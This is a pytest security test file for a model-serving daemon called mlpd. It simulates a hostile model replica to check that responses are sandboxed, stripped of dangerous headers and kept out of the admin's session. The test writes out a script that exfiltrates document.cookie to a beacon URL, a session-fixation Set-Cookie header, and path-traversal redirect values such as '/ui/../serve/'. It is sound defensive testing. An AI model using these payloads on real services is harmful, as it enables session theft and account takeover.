"""A member's model answers on mlpd's origin, and an admin opens it in a real browser (issue 22, break 1).

The daemon's app runs in-process on a real loopback server (werkzeug, threaded) over a real SQLite
state directory; the "replica" is a real HTTP server playing a hostile model: its /ping answers
text/html with a script, Set-Cookie for mlpd's session, Location and Link. The deployment is the
member's own, opened to everyone (auth "none"), so an admin's browser reaches it with no token.
Before the fix the script ran on the daemon's origin (and could drive the admin pages with the
admin's CSRF token) and the cookie logged the admin's browser in as the member.
"""

from __future__ import annotations

import http.server
import json
import os
import re
import shutil
import threading
import time
from pathlib import Path

import pytest
import requests

from helpers import holds_for

playwright_api = pytest.importorskip("playwright.sync_api")

CHROMIUM = os.environ.get("MLPD_TEST_CHROMIUM", "/usr/bin/chromium")
SHIPPED_CONFIG = str(Path(__file__).resolve().parents[2] / "mlpd.toml")
ADMIN_PASSWORD = "admin-password-1234"


class HostileModel(http.server.BaseHTTPRequestHandler):
    """A replica whose answers try to act on the origin that serves them; it records what reached it."""

    seen: list[dict] = []
    beacons: list[str] = []

    def do_GET(self):
        if self.path.startswith("/beacon"):
            HostileModel.beacons.append(self.path)
            self.send_response(204)
            self.end_headers()
            return
        HostileModel.seen.append(dict(self.headers))
        port = self.server.server_address[1]
        body = (f"<html><head><title>model</title></head><body><script>document.title='pwned';"
                f"fetch('http://127.0.0.1:{port}/beacon?c='+encodeURIComponent(document.cookie)+'&o='+location.origin,"
                f"{{mode:'no-cors'}});</script>ok</body></html>").encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Set-Cookie", "mlpd_session=stolen; Path=/")
        self.send_header("Location", "/ui/admin/users")
        self.send_header("Link", "</evil.css>; rel=stylesheet")
        self.send_header("Refresh", "0; url=/ui/admin/users")
        self.send_header("X-Model", "hostile")
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """(daemon URL, replica port, deployment name): mlpd's app and a hostile replica, both on loopback."""
    from werkzeug.serving import make_server

    from mlpd import users
    from mlpd.config import load_config
    from mlpd.store import Store
    from mlpd.web import create_app

    state = tmp_path_factory.mktemp("member-content")
    cfg = load_config(SHIPPED_CONFIG, {"server.state_dir": str(state)})
    store = Store(cfg.db_path)
    store.migrate()
    users.add_user(store, "boss", role="admin")
    users.set_password(store, "boss", ADMIN_PASSWORD)
    users.add_user(store, "mallory")

    replica = http.server.ThreadingHTTPServer(("127.0.0.1", 0), HostileModel)
    threading.Thread(target=replica.serve_forever, daemon=True).start()
    port = replica.server_address[1]
    now = time.time()
    with store.write() as db:
        db["jobs"].insert({"id": "replica000001", "owner": "mallory", "spec": "{}", "state": "running", "kind": "deployment",
                           "submitted_at": now, "updated_at": now})
        db["deployments"].insert({"id": "dep000000001", "owner": "mallory", "name": "innocent", "model_uri": "models:/innocent/1",
                                  "spec": json.dumps({"auth": "none"}), "key_hash": "x", "current": "rev000000001",
                                  "created_at": now, "updated_at": now})
        db["deployment_revisions"].insert({"id": "rev000000001", "deployment": "dep000000001", "seq": 1, "model_uri": "models:/innocent/1",
                                           "model_version": "1", "location": "/nowhere", "state": "serving", "created_at": now})
        db["deployment_replicas"].insert({"job_id": "replica000001", "deployment": "dep000000001", "revision": "rev000000001", "slot": 0,
                                          "port": port, "healthy": 1, "created_at": now})
    server = make_server("127.0.0.1", 0, create_app(cfg), threaded=True)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}", port, "innocent"
    server.shutdown()
    replica.shutdown()


def test_a_replicas_answer_keeps_only_the_headers_that_describe_its_body_and_is_sandboxed(site):
    url, _, name = site
    HostileModel.seen.clear()
    resp = requests.get(f"{url}/serve/{name}/ping", cookies={"mlpd_session": "the-admins-secret"}, allow_redirects=False, timeout=10)
    assert resp.status_code == 200
    for header in ("Set-Cookie", "Location", "Link", "Refresh", "X-Model"):
        assert header not in resp.headers, (header, dict(resp.headers))
    assert resp.headers["Content-Security-Policy"] == "sandbox"
    assert resp.headers["X-Content-Type-Options"] == "nosniff"
    assert resp.headers["X-Frame-Options"] == "DENY"
    assert resp.headers["Content-Disposition"] == "attachment"  # text/html is neither JSON nor plain text
    # the browser's cookies never reach the model
    assert HostileModel.seen and all("Cookie" not in h and "cookie" not in h for h in HostileModel.seen), HostileModel.seen


def test_login_never_sends_a_browser_anywhere_but_under_ui(site):
    url, _, name = site
    for target in (f"/ui/../serve/{name}/ping", f"/ui/%2e%2e/serve/{name}/ping", f"/ui/%2E%2E/serve/{name}/ping",
                   f"/mlflow/../serve/{name}/ping", "/ui/./../api/v1/whoami"):
        web = requests.Session()
        form = web.get(f"{url}/ui/login", timeout=10).text
        csrf = re.findall(r'name="csrf" value="([^"]+)"', form)[-1]
        resp = web.post(f"{url}/ui/login", data={"csrf": csrf, "name": "boss", "password": ADMIN_PASSWORD, "next": target},
                        allow_redirects=False, timeout=10)
        assert resp.status_code == 303, resp.text[:500]
        assert resp.headers["Location"].rstrip("/").endswith("/ui"), (target, resp.headers["Location"])


@pytest.mark.skipif(not shutil.which(CHROMIUM) and os.environ.get("CI") != "true", reason="needs Debian's chromium (tests/run.sh installs it)")
def test_an_admin_who_opens_a_members_model_in_a_browser_runs_none_of_its_code(site):
    url, port, name = site
    HostileModel.beacons.clear()
    with playwright_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, headless=True)
        try:
            ctx = browser.new_context(accept_downloads=True)
            ctx.set_default_timeout(15000)
            page = ctx.new_page()
            # the admin logs in through a link the member sent (next= pointing at the model)
            page.goto(f"{url}/ui/login?next=/ui/../serve/{name}/ping")
            page.get_by_label("User name").fill("boss")
            page.get_by_label("Password", exact=True).fill(ADMIN_PASSWORD)
            page.get_by_role("button", name="Log in", exact=True).click()
            page.wait_for_url(re.compile(r".*/ui/?$"))  # the dashboard, not the model
            assert "/serve/" not in page.url, page.url
            # then opens the model's page directly
            try:
                page.goto(f"{url}/serve/{name}/ping")
            except playwright_api.Error as exc:  # the answer is an attachment: a download, not a page
                assert "Download is starting" in str(exc), exc
            holds_for(lambda: page.title() != "pwned" and HostileModel.beacons == [], 1.0, 0.1,
                      "the model's script not running")  # it never runs
            session = [c for c in ctx.cookies() if c["name"] == "mlpd_session"]
            assert session and session[0]["value"] != "stolen"  # still the admin's own session
            page.goto(f"{url}/ui/")
            assert "boss" in page.content()
        finally:
            browser.close()
